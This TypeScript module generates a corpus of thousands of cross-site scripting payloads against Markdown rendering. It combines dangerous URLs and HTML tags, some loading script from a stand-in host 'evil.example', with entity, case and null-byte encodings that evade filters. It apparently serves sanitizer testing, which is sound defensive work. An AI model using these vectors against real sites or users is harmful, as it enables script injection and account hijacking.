/** Attacks on Markdown: each combines a payload, an encoding that disguises it, and a place in the text. */

const addresses = [
  'javascript:alert(1)',
  'javascript://a.example/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/a',
  '/\\evil.example/a',
  '\\\\evil.example',
  '/..//evil.example',
  'https:evil.example',
  'https://us@evil.example',
  'filesystem:a',
  'feed:javascript:alert(1)',
];

const tags = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action=//evil.example><input name=a autofocus onfocus=alert(1)></form>',
  '<style>*{color:red}</style>',
  '<p style="position:fixed" onclick=alert(1)>a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data=//evil.example></object>',
  '<embed src=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '</p></div><script>alert(1)</script>',
  '<button formaction=javascript:alert(1)>a</button>',
  '<div id=main name=cookie>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  '" style="x" onfocus="alert(1)" autofocus="',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];

const letters = (text: string, each: (letter: string, index: number) => string) => [...text].map(each).join('');
const code = (letter: string) => letter.codePointAt(0) ?? 0;
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => letters(text, (letter, index) => (index % 2 ? letter.toUpperCase() : letter)),
  (text) => letters(text, (letter) => `&#${code(letter)};`),
  (text) => letters(text, (letter) => `&#x${code(letter).toString(16)};`),
  (text) => letters(text, (letter) => `&#${String(code(letter)).padStart(7, '0')};`),
  (text) => text.replace(':', '&colon;').replaceAll('/', '&sol;').replaceAll('(', '&lpar;'),
  (text) => `${text.slice(0, 4)}&Tab;${text.slice(4)}`,
  (text) => `${text.slice(0, 4)}&NewLine;${text.slice(4)}`,
  (text) => `&#1;&#32;${text}`,
  (text) => `${text.slice(0, 2)}\u0000${text.slice(2)}`,
  (text) => letters(text, (letter) => (/[a-z]/i.test(letter) ? letter : `\\${letter}`)),
  (text) => letters(text, (letter) => (/[:/(<]/.test(letter) ? `%${code(letter).toString(16)}` : letter)),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll(':', '\uFF1A'),
];

const linkContexts: readonly ((url: string) => string)[] = [
  (url) => `[a](${url})`,
  (url) => `[a](<${url}> "b")`,
  (url) => `[a][b]\n\n[b]: ${url}`,
  (url) => `[a]\n\n[a]: <${url}>`,
  (url) => `<${url}>`,
  (url) => url,
  (url) => `![a](${url})`,
  (url) => `![a](<${url}>)`,
  (url) => `[![a](${url})](${url})`,
  (url) => `![a][]\n\n[a]: ${url}`,
  (url) => `# [a](${url})`,
  (url) => `- [ ] [a](<${url}>)`,
  (url) => `|[a](${url})|\n|-|\n|![a](${url})|`,
  (url) => `> *[a](<${url}>)*`,
  (url) => `www.a.example/${url}`,
  (url) => `https://a.example/${url}`,
  (url) => `[a](/news "${url}")`,
  (url) => `[a](https://${url})`,
  (url) => `[a](/${url})`,
];
const textContexts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `a ${text} b`,
  (text) => `# ${text}`,
  (text) => `- ${text}`,
  (text) => `> ${text}`,
  (text) => `**${text}**`,
  (text) => `|${text}|\n|-|\n|${text}|`,
  (text) => `[${text}](/a)`,
  (text) => `[a](/b '${text}')`,
  (text) => `![${text}](/a.png)`,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => `    ${text}`,
  (text) => `~~~ js ${text}\n`,
  (text) => `- [x] ${text}`,
  (text) => `<div>\n${text}\n</div>`,
  (text) => `[a]: /b "${text}"\n\n[a]`,
];

const combine = (vectors: readonly string[], contexts: typeof textContexts) =>
  vectors.flatMap((vector) => encodings.flatMap((encode) => contexts.map((context) => context(encode(vector)))));

/** All attacks, thousands, without duplicates. */
export const payloads: readonly string[] = [...new Set([...combine(addresses, linkContexts), ...combine(tags, textContexts)])];
